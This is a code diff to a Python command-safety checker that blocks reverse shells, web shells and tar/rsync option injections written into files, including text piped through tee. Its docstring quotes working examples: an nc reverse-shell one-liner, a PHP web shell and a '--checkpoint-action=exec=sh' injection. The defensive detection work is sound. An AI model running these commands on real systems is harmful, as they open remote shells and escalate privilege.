@@ -68,6 +68,7 @@ from .programs import (
     walk,
     written_text,
 )
+from .tactics.privilege import injected_option
 from .targets import check_targets
 from .transfers import DOWNLOADERS as _DOWNLOADERS
 from .transfers import download
@@ -82,6 +83,7 @@ from .verdict import (
     GIT_HOOKS,
     OBFUSCATED,
     PERMISSIONS,
+    PRIVILEGE,
     REMOTE_ACCESS,
     REMOTE_CODE,
     SUDO_INSTALL,
@@ -1026,16 +1028,18 @@ _reading_written: contextvars.ContextVar[bool] = contextvars.ContextVar(
 )
 
 
-def _written_backdoor(invocation: Invocation, home: str) -> Verdict | None:
+def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None) -> Verdict | None:
     """``echo "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc IP 4444 >/tmp/f" >> backups.sh``, ``echo
     "<?php system('nc -e /bin/sh IP 4444'); ?>" > shell.php``, ``cat > r.py <<EOF`` with a Python reverse
     shell: a reverse or bind shell written into a file, wherever it is (the file's next reader runs it: a
     root job, a web server, a later call). Writing code is otherwise judged where it runs; a remote shell
-    has no place in a project's files, so the write itself is held back."""
+    has no place in a project's files, so the write itself is held back. ``fed``: what is piped into tee
+    (``echo CMD | sudo tee -a FILE``), written to its files as a here-document is. An option injection
+    written as data (``echo '--checkpoint-action=exec=sh x' > list.txt``) is held back the same way."""
     if invocation.name == "tee":
         values = _values(invocation)
         targets = [v for v in values if not v.startswith("-")]
-        text = "\n".join(fed_code(invocation)) or None
+        text = "\n".join(fed_code(invocation)) or fed or None
     else:
         command = invocation.command
         targets = [command.static(r.target) or "" for r in command.redirects if r.op in _WRITES]
@@ -1043,6 +1047,10 @@ def _written_backdoor(invocation: Invocation, home: str) -> Verdict | None:
     if not text or len(text) > _MAX_WRITTEN or _reading_written.get():
         return None
     target = next((t for t in targets if t), "a file")
+    injected = injected_option(text)
+    if injected is not None:
+        why = f"writes {injected} into {target}: a program handed it as arguments (tar, rsync) runs a command"
+        return _verdict(PRIVILEGE, invocation, why)
     if _WEB_SHELL_CODE.search(text):
         return _verdict(BACKDOOR, invocation, f"writes a web shell into {target} (runs what a request sends)")
     for handler in _CODE_HANDLER.finditer(text):
@@ -2070,6 +2078,9 @@ def _check_one(
         text = written_text(invocation) if invocation.name in _TEXT_SOURCES else None
         found = device_rules.settled(_check_redirects(invocation, home), text, invocation)
         verdict = findings.blocks(in_place(invocation, found), "redirect rule", perhaps)
+    if verdict is None and fed is not None and invocation.name == "tee":
+        found = _written_backdoor(invocation, home, fed)  # echo CMD | tee FILE: what tee writes
+        verdict = findings.blocks(in_place(invocation, found), "written-text rule", perhaps)
     for judge in tactics.judges(invocation):
         if verdict is not None:
             return verdict
